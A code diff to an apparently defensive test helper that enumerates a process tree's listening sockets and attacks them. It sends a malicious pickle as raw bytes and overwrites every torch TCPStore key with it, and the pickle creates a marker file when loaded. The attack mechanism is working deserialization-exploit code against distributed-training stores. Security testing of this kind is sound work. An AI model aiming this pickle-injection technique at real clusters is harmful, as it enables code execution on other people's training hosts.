@@ -1,17 +1,14 @@
-"""Listening sockets of a process and its descendants, and an attack on them.
-
-As a script it is the attacker: `listening_sockets.py TRACE SECONDS ADDRESS PORT …` connects to each
+"""Listening sockets of a process and its descendants, and an attack on them: it connects to each
 port, as raw bytes and as a client of torch's TCPStore, and sets every key it finds to a pickle that
-creates the file TRACE when somebody loads it."""
+creates a file when somebody loads it."""
 
 import base64
 import datetime
+import importlib
 import ipaddress
 import os
 import pickle
 import socket
-import subprocess
-import sys
 import threading
 import time
 from contextlib import suppress
@@ -21,6 +18,22 @@ import psutil
 
 ATTACK_S = 7
 """torchrun's agent, which once was attacked so, reads its store every five seconds."""
+SLOW_DATA = """
+import time
+
+import numpy as np
+
+class Samples:
+    def __len__(self):
+        return 64
+
+    def __getitem__(self, number):
+        time.sleep(0.05)
+        return np.zeros((3, 8, 8), np.float32), 0
+
+data = Samples()
+"""
+"""Data that ranks mostly wait for: they keep their sockets and leave the processors alone."""
 LISTEN, UNCONNECTED = "0A", "07"
 """States in /proc/net: of TCP, and of UDP that receives from anybody."""
 
@@ -83,9 +96,23 @@ def is_loopback(address):
 
 
 def attack(trace, ports):
-    """Attack ports, (address, port), from a process of its own."""
-    words = [str(word) for pair in ports for word in pair]
-    subprocess.run([sys.executable, __file__, str(trace), str(ATTACK_S), *words], check=True)
+    """Attack ports, (address, port), from a fork of this process; the pickle creates `trace`."""
+    importlib.import_module("torch.distributed")  # once, before the fork
+    attacker = os.fork()
+    if attacker == 0:
+        try:
+            _attack(pickle.dumps(Harm(trace)), ports)
+        finally:
+            os._exit(1)  # not by an end of its own
+    assert os.waitpid(attacker, 0)[1] == 0
+
+
+def _attack(payload, ports):
+    for address, port in ports:
+        for way in (_send_bytes, _set_keys):
+            threading.Thread(target=way, args=(payload, address, port), daemon=True).start()
+    time.sleep(ATTACK_S)
+    os._exit(0)
 
 
 class Harm:
@@ -113,12 +140,3 @@ def _set_keys(payload, address, port):
             for key in store.list_keys():
                 store.set(key, base64.b64encode(payload))
             time.sleep(0.1)
-
-
-if __name__ == "__main__":
-    payload = pickle.dumps(Harm(sys.argv[1]))
-    for address, port in zip(sys.argv[3::2], sys.argv[4::2], strict=True):
-        for way in (_send_bytes, _set_keys):
-            threading.Thread(target=way, args=(payload, address, int(port)), daemon=True).start()
-    time.sleep(float(sys.argv[2]))
-    os._exit(0)
